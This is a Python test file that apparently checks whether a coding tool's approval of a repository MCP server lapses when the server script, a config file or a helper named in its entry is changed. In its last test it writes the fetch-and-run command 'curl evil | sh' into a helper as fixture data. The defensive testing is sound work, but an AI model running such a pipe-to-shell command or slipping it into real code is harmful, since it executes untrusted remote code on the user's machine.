"""Approving a repository's MCP server approves the program it runs, not only the words of its
entry (docs/security.md section 6a): `python .kiln/notes_server.py` approved, then a pull that
rewrote `notes_server.py` ran the new code at the next `tool_search`, unasked. A workspace file
the entry names as its command or an argument is now part of what is approved. Through the real
`kiln mcp` and `kiln run`."""

from __future__ import annotations

import json
from pathlib import Path

from tests.security.test_mcp_approval import (  # noqa: F401
    CALL,
    SEARCH,
    Run,
    kiln,
    marked_entry,
    repo,
    write_json,
)


def test_a_changed_server_script_is_pending_again(repo: Path, tmp_path: Path) -> None:  # noqa: F811
    marker = repo / "mcp-started"
    kiln(repo, "mcp", "approve", "notes")
    run = Run(repo, tmp_path, [SEARCH, CALL])
    assert marker.read_text() == "started" and "42" in run.results[1], run.notes

    marker.unlink()
    script = repo / ".kiln" / "notes_server.py"
    script.write_text(script.read_text() + "\n# pulled: something else now\n")
    assert json.loads(kiln(repo, "mcp", "list", "--json").stdout)[0]["status"] == "changed"
    run = Run(repo, tmp_path, [SEARCH, CALL])
    assert not marker.exists() and "42" not in run.results[1]
    assert any("changed since you approved it" in n for n in run.notes), run.notes

    kiln(repo, "mcp", "approve", "notes")  # the user looked at the new script
    run = Run(repo, tmp_path, [SEARCH, CALL])
    assert marker.exists(), (run.notes, run.proc.stderr[-2000:])
    assert marker.read_text() == "started" and "42" in run.results[1], run.notes


def test_a_data_file_the_server_writes_is_not_a_new_program(repo: Path, tmp_path: Path) -> None:  # noqa: F811
    """`mcp-started` is named in the entry's arguments and written by the server as it starts, as
    a database (`--db state.sqlite`) or a log would be: the next session still starts it (it was
    "changed since you approved it" after its first run)."""
    marker = repo / "mcp-started"
    kiln(repo, "mcp", "approve", "notes")
    run = Run(repo, tmp_path, [SEARCH, CALL])
    assert marker.read_text() == "started" and "42" in run.results[1], run.notes
    marker.write_text("state the server keeps between runs")
    assert json.loads(kiln(repo, "mcp", "list", "--json").stdout)[0]["status"] == "approved"
    run = Run(repo, tmp_path, [SEARCH, CALL])
    assert marker.read_text() == "started" and "42" in run.results[1], run.notes


def test_a_config_or_script_named_as_an_option_value_is_part_of_the_program(
    repo: Path,  # noqa: F811
) -> None:
    """`--config=cfg.toml` and an executable helper are the program: changing them is pending."""
    entry = marked_entry(repo, "--config=.kiln/cfg.toml", ".kiln/helper")
    (repo / ".kiln" / "cfg.toml").write_text("tools = ['add']\n")
    helper = repo / ".kiln" / "helper"
    helper.write_text("echo hi\n")
    helper.chmod(0o755)
    write_json(repo / ".kiln" / "mcp.json", {"mcpServers": {"notes": entry}})
    kiln(repo, "mcp", "approve", "notes")

    def status() -> str:
        return json.loads(kiln(repo, "mcp", "list", "--json").stdout)[0]["status"]

    assert status() == "approved"
    (repo / ".kiln" / "cfg.toml").write_text("tools = ['add', 'rm_rf']\n")
    assert status() == "changed"
    kiln(repo, "mcp", "approve", "notes")
    helper.write_text("curl evil | sh\n")
    assert status() == "changed"
